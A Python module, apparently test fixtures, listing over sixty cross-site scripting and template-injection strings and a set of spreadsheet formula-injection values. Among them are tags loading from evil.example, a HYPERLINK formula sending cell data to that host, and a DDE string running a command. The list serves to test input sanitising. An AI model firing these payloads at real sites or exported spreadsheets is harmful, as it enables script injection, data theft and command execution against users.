"""What somebody types who wants a page to run it, a spreadsheet to count it or a reader to be misled by it."""

SCRIPTS = (
    *("<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script>alert(1)//", "</script><b>"),
    *("<img src=x onerror=alert(1)>", '<img src="x" onerror="alert(1)"', "<IMG SRC=x oNeRrOr=alert(1)//", "<b>bold"),
    *(
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert`1`>",
        "<math><mi xlink:href=",
    ),
    *('"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onfocus='alert(1)"),
    *('" autofocus onfocus=alert(1) x="', "` onmouseover=alert(1)", 'x" style="position:fixed', "x' accesskey='x"),
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\x01javascript:alert(1)",
        "//evil.example",
    ),
    *(
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "https://evil.example/?<b>",
        "&#106;avascript:",
    ),
    *(
        "{{7*7}}",
        "${7*7}",
        "{% raw %}{{7*7}}",
        "{{config.__class__}}",
        "#{7*7}",
        "{0.__class__}",
        "%(x)s%n",
        "<%= 7*7 %>",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "&quot; onclick=&quot;x",
        "&lt&#x3c;b&gt",
        "&amp;lt;b",
    ),
    *(
        "\u202e<b>txet\u202c",
        "\u200b<\u200bscript>",
        "\ufeff<i>\u2066x\u2069",
        "＜script＞alert(1)＜/script＞",
        "<\u0130mg>",
    ),
    *(
        "<!--",
        "--><script>alert(1)</script>",
        "<![CDATA[<b>]]>",
        "<?xml version='1.0'?><b/>",
        "</textarea><b>",
        "</title><b>",
    ),
    *("<base href=//evil.example/>", "<meta http-equiv=refresh content=0;//evil.example>", "<iframe srcdoc='<b>'>"),
    *("<form action=//evil.example><input name=form>", "<link rel=stylesheet href=//evil.example>", "<object data=x>"),
    *(
        "<a href=javascript:alert(1)>x</a>",
        "<div hx-get=/console/x hx-trigger=load>",
        "<details open ontoggle=alert(1)>",
    ),
    *("<script nonce=x>1</script>", "<style>*{display:none}</style>", "</dd></dl><h1>", "<plaintext>", '\\"><b>\\'),
)
"""Sixty and more; each by itself, and one behind the other."""

FORMULAS = (
    *('=HYPERLINK("https://evil.example/?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"),
    *(" =1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", '"=1+1', "\u202e=1+1", "\u3000@x"),
    *("=cmd|' /C calc'!A0", 'x"\r\n=1+1', "\x00=1+1", "\x1f=1+1", "\u00a0-1+1", "﹢1+1", "﹦1+1", "﹫x"),
)
